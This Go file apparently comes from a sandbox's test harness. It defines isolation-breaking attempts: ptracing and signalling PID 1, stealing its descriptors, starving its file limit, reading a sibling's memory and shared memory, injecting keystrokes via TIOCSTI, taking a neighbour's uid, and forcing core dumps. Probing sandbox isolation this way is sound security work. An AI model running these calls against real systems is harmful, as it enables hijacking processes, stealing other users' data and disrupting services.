package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strconv"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/skerry-sandbox/skerry/internal/attack/wire"
)

// processAttempts reach for other processes: PID 1, another exec of the same sandbox, the neighbour's.
var processAttempts = map[string]attempt{
	"ptrace-pid1":         ptracePID1,
	"vm-read-sibling":     vmReadSibling,
	"pidfd-getfd-pid1":    pidfdGetfd,
	"kill-pid1":           killPID1,
	"sigqueue-pid1":       sigqueuePID1,
	"prlimit-pid1":        prlimitPID1,
	"terminal-sibling":    terminalSibling,
	"neighbour-process":   neighbourProcess,
	"neighbour-shm":       neighbourShm,
	"become-neighbour":    becomeNeighbour,
	"neighbour-workspace": neighbourWorkspace,
	"core-dump":           coreDump,
}

// siblingFile is where the process of another exec says what it is.
const siblingFile = "/tmp/sibling.json"

const waitTimeout = 20 * time.Second

// theSibling waits until there is one.
func theSibling() (wire.Facts, error) {
	for end := time.Now().Add(waitTimeout); ; time.Sleep(10 * time.Millisecond) {
		var f wire.Facts
		data, err := os.ReadFile(siblingFile)
		if err == nil && json.Unmarshal(data, &f) == nil {
			return f, nil
		}
		if time.Now().After(end) {
			return nil, errors.New("there is no sibling")
		}
	}
}

// ptracePID1 takes over PID 1.
func ptracePID1(wire.Facts) (string, error) {
	const seize = 0x4206
	if _, _, errno := unix.Syscall6(unix.SYS_PTRACE, seize, 1, 0, 0, 0, 0); errno != 0 {
		return "", errno
	}
	return "PID 1 is traced", nil
}

// vmReadSibling reads a secret out of the memory of another exec, as code of one exec might that of the next.
func vmReadSibling(wire.Facts) (string, error) {
	sibling, err := theSibling()
	if err != nil {
		return "", err
	}
	pid, err := strconv.Atoi(sibling["pid"])
	if err != nil {
		return "", broken("pid", err)
	}
	address, err := strconv.ParseUint(sibling["address"], 16, 64)
	if err != nil {
		return "", broken("address", err)
	}
	b := make([]byte, len(siblingSecret))
	local := []unix.Iovec{{Base: &b[0]}}
	local[0].SetLen(len(b))
	remote := []unix.RemoteIovec{{Base: uintptr(address), Len: len(b)}}
	if _, err := unix.ProcessVMReadv(pid, local, remote, 0); err != nil {
		return "", err
	}
	if string(b) != siblingSecret {
		return "", refusal("other bytes")
	}
	return "read the sibling's memory", nil
}

// pidfdGetfd takes a descriptor out of PID 1: the connection to the server, say.
func pidfdGetfd(wire.Facts) (string, error) {
	pidfd, err := unix.PidfdOpen(1, 0)
	if err != nil {
		// A folder of /proc serves as one, too, for some calls.
		if pidfd, err = unix.Open("/proc/1", unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err != nil {
			return "", err
		}
	}
	defer unix.Close(pidfd)
	fd, err := unix.PidfdGetfd(pidfd, 0, 0)
	if err != nil {
		return "", err
	}
	return "took descriptor 0 of PID 1", unix.Close(fd)
}

const lastSignal = 64

// killPID1 sends every signal to PID 1, by kill and by tgkill.
func killPID1(wire.Facts) (string, error) {
	var worst error
	taken := 0
	for n := 1; n <= lastSignal; n++ {
		for _, send := range []func() error{
			func() error { return unix.Kill(1, unix.Signal(n)) },
			func() error { return unix.Tgkill(1, 1, unix.Signal(n)) },
		} {
			if err := send(); err == nil {
				taken++
			} else {
				worst = err
			}
		}
	}
	if taken == 0 {
		return "", worst
	}
	return fmt.Sprintf("PID 1 was sent %d signals", taken), nil
}

// sigqueuePID1 sends signals with a forged cause, which Go's runtime takes for a crash of its own, by the ways that are
// not kill.
func sigqueuePID1(wire.Facts) (string, error) {
	var info [128]byte
	*(*int32)(unsafe.Pointer(&info[0])) = int32(unix.SIGURG)
	*(*int32)(unsafe.Pointer(&info[8])) = -1 // SI_QUEUE
	_, _, errno := unix.Syscall(unix.SYS_RT_SIGQUEUEINFO, 1, uintptr(unix.SIGURG), uintptr(unsafe.Pointer(&info)))
	if errno == 0 {
		return "PID 1 took a signal with a forged cause", nil
	}
	fd, err := unix.Open("/proc/1", unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", errno
	}
	defer unix.Close(fd)
	if err := unix.PidfdSendSignal(fd, unix.SIGURG, nil, 0); err != nil {
		return "", errno
	}
	return "PID 1 took a signal by a pidfd", nil
}

// prlimitPID1 takes PID 1 its open files, so that it serves no request any more.
func prlimitPID1(wire.Facts) (string, error) {
	limit := unix.Rlimit{Cur: 3, Max: 3}
	return "PID 1 may open no file", unix.Prlimit(1, unix.RLIMIT_NOFILE, &limit, nil)
}

// terminalSibling types into the terminal of another exec.
func terminalSibling(wire.Facts) (string, error) {
	sibling, err := theSibling()
	if err != nil {
		return "", err
	}
	fd, err := unix.Open(sibling["terminal"], unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	typed := byte('x')
	if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&typed))); errno != 0 {
		return "", errno
	}
	return "typed into " + sibling["terminal"], nil
}

// neighbourProcess looks for the neighbour's process and kills it.
func neighbourProcess(f wire.Facts) (string, error) {
	all, err := pids()
	if err != nil {
		return "", err
	}
	var worst error = refusal("no such process")
	for _, pid := range all {
		line, err := os.ReadFile("/proc/" + pid + "/cmdline")
		if err != nil || !bytes.Contains(line, []byte("\x00victim\x00"+f["mark"]+"\x00")) {
			continue
		}
		n, err := strconv.Atoi(pid)
		if err != nil {
			return "", broken("pid", err)
		}
		// A signal of nothing: whether it may be sent is what counts.
		if err := unix.Kill(n, 0); err != nil {
			worst = err
			continue
		}
		return "may send any signal to the neighbour's process " + pid, nil
	}
	return "", worst
}

// neighbourShm reads the neighbour's shared memory: by its key, and by its name.
func neighbourShm(f wire.Facts) (string, error) {
	key, err := strconv.Atoi(f["shm"])
	if err != nil {
		return "", broken("key", err)
	}
	id, err := unix.SysvShmGet(key, 0, 0)
	if err != nil {
		return "", err
	}
	data, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY)
	if err != nil {
		return "", err
	}
	if !bytes.Contains(data, []byte(f["mark"])) {
		return "", refusal("other bytes")
	}
	return "read the neighbour's shared memory", nil
}

// becomeNeighbour takes the neighbour's uid.
func becomeNeighbour(f wire.Facts) (string, error) {
	uid, err := strconv.Atoi(f["uid"])
	if err != nil {
		return "", broken("uid", err)
	}
	return "has the neighbour's uid", syscall.Setresuid(uid, uid, uid)
}

// neighbourWorkspace reads the neighbour's file by the host's path.
func neighbourWorkspace(f wire.Facts) (string, error) {
	return secretIn(f["file"], f["mark"])
}

// coreDump lets a program crash whose memory would then lie in a file.
func coreDump(wire.Facts) (string, error) {
	limit := unix.Rlimit{Cur: 1 << 20, Max: 1 << 20}
	if err := unix.Setrlimit(unix.RLIMIT_CORE, &limit); err != nil {
		return "", err
	}
	dir, err := os.MkdirTemp("/tmp", "core")
	if err != nil {
		return "", broken("mkdir", err)
	}
	process, err := os.StartProcess("/proc/self/exe", []string{"probe", "crash"}, &os.ProcAttr{Dir: dir, Env: []string{"GOTRACEBACK=crash"}})
	if err != nil {
		return "", broken("start", err)
	}
	state, err := process.Wait()
	if err != nil {
		return "", broken("wait", err)
	}
	status, ok := state.Sys().(syscall.WaitStatus)
	if !ok || !status.CoreDump() {
		return "", refusal("no core")
	}
	return "a core was dumped", nil
}
